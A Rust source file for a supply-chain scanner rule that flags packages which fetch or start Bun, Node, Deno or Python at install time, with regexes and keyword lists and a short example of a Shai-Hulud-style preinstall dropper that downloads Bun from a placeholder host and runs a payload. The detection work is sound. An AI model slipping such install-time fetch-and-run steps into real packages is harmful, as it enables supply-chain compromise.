//! # SW-GEN-003: runtime bootstrap
//!
//! **What it does.** Finds code that fetches or installs a second
//! language runtime — Bun, Node, Deno or Python — and code that starts
//! one: Bun's or Deno's install script, `npm i -g bun`, a download of a
//! `bun-linux-x64.zip` or `node-v…-linux-x64.tar.xz` release, `bun run`,
//! `bunx`, `npx -y github:…`, `setup_bun.js`-style droppers, and on the
//! Python side `subprocess.run(["npm", "install", …])` or
//! `uv python install`.
//!
//! **Why is this bad.** The Mini Shai-Hulud payloads run in Bun: an npm
//! `preinstall` or a Python package's import downloads Bun and starts an
//! obfuscated JavaScript file with it, out of reach of tools that only
//! understand the package's own language. A package has no reason to
//! install a runtime while it is being installed or imported.
//!
//! **Example.**
//!
//! ```js
//! // setup_bun.js, run by "preinstall"
//! https.get("https://runtime.example.test/bun-linux-x64.zip", save);
//! spawn("./bun", ["bun_environment.js"], { detached: true });
//! ```
//!
//! **False positives.** Toolchain managers and build helpers that download
//! a runtime when asked: in code that only runs when called the rule is
//! `low`. Python packages that build a JavaScript front end by running
//! `npm install` from `setup.py` are only noted (`info`); a global
//! install (`npm i -g`) from Python is `medium`.

use std::sync::LazyLock;

use super::support::{self, Text};
use super::{Context, Emit, Rule, clip};
use crate::model::{Severity, Stage};
use crate::guarded::{Guarded, Within};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-003",
    title: "runtime bootstrap",
    source: include_str!("gen003_runtime_bootstrap.rs"),
    check,
};

/// What a text does, by kind.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// Installs packages with npm from Python code.
    NpmFromPython,
    /// Starts Bun or Deno, or runs a package from git with `npx`.
    Starts,
    /// Names a known Shai-Hulud dropper file.
    Dropper,
    /// Installs or downloads a runtime.
    Installs,
}

pub(crate) static INSTALLS: Guarded = Guarded::ascii_case_insensitive(
    &["bun.sh", "deno.land", "oven-sh", "denoland", "bun-", "node-v", "/dist/v", "deno-", "python-build", "cpython-3", "-g", "yarn", "uv", "pyenv", "nvm", "fnm", "volta"],
    r"(?i-u)bun\.sh/install|deno\.land/(?:x/)?install|oven-sh/bun/releases|denoland/deno/releases|bun-(?:linux|darwin|windows)-(?:x64|aarch64|arm64)|bun-v[0-9]+\.[0-9]+|(?-u:\b)node-v[0-9]+\.[0-9]+\.[0-9]+-(?:linux|darwin|win)|/dist/v[0-9]+\.[0-9]+\.[0-9]+/node-|deno-(?:x86_64|aarch64)-|python-build-standalone|cpython-3\.[0-9]+\.[0-9]+\+[0-9]+-|(?-u:\b)(?:npm|pnpm|yarn)(?-u:\s)+(?:i|install|add)(?-u:\s)+(?:-g|--global)(?-u:\s)+(?:bun|deno|node)(?-u:\b)|(?-u:\b)(?:npm|pnpm)(?-u:\s)+(?:i|install|add)(?-u:\s)+(?:bun|deno)(?:@(?u:\S)*)?(?-u:\s)+(?:-g|--global)(?-u:\b)|(?-u:\b)yarn(?-u:\s)+global(?-u:\s)+add(?-u:\s)+(?:bun|deno)(?-u:\b)|(?-u:\b)uv(?-u:\s)+python(?-u:\s)+install(?-u:\b)|(?-u:\b)pyenv(?-u:\s)+install(?-u:\b)|(?-u:\b)(?:nvm|fnm)(?-u:\s)+install(?-u:\b)|(?-u:\b)volta(?-u:\s)+install(?-u:\s)+node(?-u:\b)",
);

pub(crate) static STARTS: Guarded = Guarded::ascii_case_insensitive(
    &["bun", "npx", "deno"],
    r"(?i)(?:^|[\t\n\x0B\x0C\r /&|;(])(?:bun|bunx|bun\.exe)(?-u:\s)+(?:run(?-u:\s)+|x(?-u:\s)+)?\S|(?:^|[\t\n\x0B\x0C\r &|;])npx(?-u:\s)+(?:-y(?-u:\s)+|--yes(?-u:\s)+)?(?:github:|git\+|https?://)|(?:^|[\t\n\x0B\x0C\r &|;])deno(?-u:\s)+run(?-u:\s)",
);

/// The file names of the Shai-Hulud Bun dropper, in any ASCII case.
pub(crate) static DROPPER: Guarded =
    Guarded::ascii_case_insensitive(&["setup_bun.js", "bun_environment.js"], r"(?i-u)setup_bun\.js|bun_environment\.js");

static NPM_INSTALL: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(r"^(?:npm|npm\.cmd|yarn|pnpm|npx)(?-u:\s)+(?:i|install|ci|add|exec|-y|--yes)(?-u:\b)").expect("a valid regex")
});

/// What `t` does; `[installs, dropper, starts]` are [`INSTALLS`],
/// [`DROPPER`] and [`STARTS`] for its group of texts.
fn kind_of(t: &Text<'_>, python: bool, [installs, dropper, starts]: [Option<&Within<'_>>; 3]) -> Option<Kind> {
    let text = t.text.as_ref();
    if installs.is_some_and(|re| re.is_match(text)) {
        return Some(Kind::Installs);
    }
    if dropper.is_some_and(|re| re.is_match(text)) {
        return Some(Kind::Dropper);
    }
    if t.command && starts.is_some_and(|re| re.is_match(text)) {
        return Some(Kind::Starts);
    }
    if t.command && python && NPM_INSTALL.is_match(text.trim_start()) {
        return Some(Kind::NpmFromPython);
    }
    None
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    // The worst text per file.
    let mut best: std::collections::BTreeMap<&str, (Severity, Stage, Option<u32>, String)> = Default::default();
    let texts = support::texts(cx);
    for group in support::groups(cx) {
      let installs = INSTALLS.within(&group.joined);
      let starts = STARTS.within(&group.joined);
      let dropper = DROPPER.within(&group.joined);
      for t in &texts[group.texts.clone()] {
        let python = t.file.ends_with(".py");
        let Some(kind) = kind_of(t, python, [installs.as_ref(), dropper.as_ref(), starts.as_ref()]) else { continue };
        let stage = t.acting_stage();
        let automatic = stage.is_automatic();
        // A Bun start in an npm script is judged by SW-NPM-001 as well;
        // here it is the runtime being used at all.
        let (severity, what) = match (kind, automatic) {
            (Kind::Installs, true) => (Severity::High, "fetches or installs a JavaScript or Python runtime"),
            (Kind::Installs, false) => (Severity::Low, "can fetch or install a JavaScript or Python runtime"),
            (Kind::Dropper, _) => (Severity::Medium, "names a Bun dropper file of the Shai-Hulud worm"),
            (Kind::Starts, true) if t.text.contains("github:") || t.text.contains("git+") || t.text.contains("://") => {
                (Severity::High, "runs a package straight from git or a URL")
            }
            (Kind::Starts, true) => (Severity::Medium, "starts the Bun or Deno runtime"),
            (Kind::Starts, false) => (Severity::Low, "can start the Bun or Deno runtime"),
            (Kind::NpmFromPython, true) if t.text.contains(" -g") || t.text.contains("--global") => {
                (Severity::Medium, "installs global npm packages from Python")
            }
            (Kind::NpmFromPython, _) => (Severity::Info, "runs npm from Python"),
        };
        let candidate = (severity, stage, t.line, format!("{what}: `{}`", clip(&t.text, 100)));
        let entry = best.entry(t.file).or_insert_with(|| candidate.clone());
        if (crate::score::points(candidate.0, candidate.1), candidate.0) > (crate::score::points(entry.0, entry.1), entry.0) {
            *entry = candidate;
        }
      }
    }
    // A shipped dropper file.
    for file in cx.files {
        let name = file.path.rsplit('/').next().unwrap_or(&file.path);
        if matches!(name, "setup_bun.js" | "bun_environment.js") {
            let stage = file.role.as_ref().map_or(Stage::Metadata, |r| r.stage);
            best.entry(&file.path).or_insert((
                Severity::Medium,
                stage,
                None,
                format!("ships `{name}`, the file name of a Shai-Hulud Bun dropper"),
            ));
        }
    }
    for (file, (severity, stage, line, message)) in best {
        out.finding(severity, stage, file, line, message);
    }
}
